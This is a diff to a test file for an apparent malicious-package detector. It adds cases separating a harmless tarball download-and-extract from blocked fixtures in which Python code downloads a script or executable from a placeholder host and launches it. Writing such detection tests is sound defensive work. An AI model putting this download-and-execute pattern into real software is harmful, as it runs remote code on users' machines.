@@ -374,6 +374,39 @@ test('urlretrieve, honest twins: a data file read, a module imported before the 
       'tw_schema/schema.py': 'X = 1\n',
     }),
   );
+  // A downloaded tarball handed to tar is read, not run (a command string, an argument list); was BLOCKED
+  // (download_execute) when the archive was the string's last word or any element of the list.
+  await honest(
+    py(
+      'tw-tar',
+      'tw_tar/__init__.py',
+      "import os, urllib.request\nurllib.request.urlretrieve('https://data.example/x.tgz', 'x.tgz')\nos.system('tar xzf x.tgz')\n",
+    ),
+  );
+  await honest(
+    py(
+      'tw-tar-list',
+      'tw_tar_list/data.py',
+      "import subprocess, urllib.request\n\n\ndef fetch():\n    p = '/tmp/x.tgz'\n    urllib.request.urlretrieve('https://data.example/x.tgz', p)\n    subprocess.run(['tar', 'xzf', p, '-C', '/tmp/x'])\n",
+    ),
+  );
+  // Handed to a launcher it runs: `[sys.executable, p]`, `cmd /c start`.
+  await blocked(
+    py(
+      'ur-launch',
+      'ur_launch/__init__.py',
+      "import sys, subprocess, urllib.request\np = '/tmp/.u.py'\nurllib.request.urlretrieve('https://x.example/u.py', p)\nsubprocess.Popen([sys.executable, p])\n",
+    ),
+    'download_execute',
+  );
+  await blocked(
+    py(
+      'ur-cmd',
+      'ur_cmd/__init__.py',
+      "import subprocess, urllib.request\np = 'C:/Users/Public/u.exe'\nurllib.request.urlretrieve('https://x.example/u.exe', p)\nsubprocess.Popen(['cmd', '/c', 'start', '', p])\n",
+    ),
+    'download_execute',
+  );
   // A zip is imported by the modules inside it, not by its own name.
   await honest(
     sdist('tw-zip', {
